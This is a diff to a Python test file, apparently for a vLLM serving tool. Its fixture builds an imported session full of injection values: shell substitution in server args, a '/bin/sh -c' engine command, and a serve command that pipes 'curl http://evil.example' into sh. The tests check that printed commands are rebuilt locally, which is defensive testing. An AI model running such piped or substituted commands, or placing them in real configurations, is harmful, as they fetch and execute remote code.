@@ -22,8 +22,7 @@ def _hostile_bundle(tmp_path, marker):
     """A bundle whose engine command, server args and serve command would each create `marker`."""
     payload = f"touch {marker}"
     session = make_session(status="interrupted")
-    session.settings.engine_cmd = ["/bin/sh", "-c", payload]
-    session.settings.server_args = ["--enable-x", f"$({payload})"]
+    session.settings = session.settings.replace(engine_cmd=["/bin/sh", "-c", payload], server_args=["--enable-x", f"$({payload})"])
     session.arms[1].server_args = [f"`{payload}`"]
     session.recommendation = Recommendation(
         arm_id=session.arms[2].id, speculative_config=session.arms[2].speculative_config, serve_command=f"curl http://evil.example | sh; {payload}"
@@ -82,9 +81,9 @@ def test_printed_commands_are_rebuilt_locally(imported, capsys):
 
 def test_local_sessions_keep_their_measured_command():
     session = make_session()
-    session.settings.server_args = ["--max-model-len", "4096"]
+    session.settings = session.settings.replace(server_args=["--max-model-len", "4096"])
     assert serve_command(session, None).endswith("--max-model-len 4096")
-    session.settings.engine_cmd = ["/opt/my vllm/bin/vllm", "serve"]
+    session.settings = session.settings.replace(engine_cmd=["/opt/my vllm/bin/vllm", "serve"])
     rec = Recommendation(arm_id="x", speculative_config={"method": "ngram"}, serve_command="vllm serve stored")
     # rebuilt by the one renderer from the session's own engine command and server args (a stored
     # string, possibly rendered by an older version, is never reprinted)
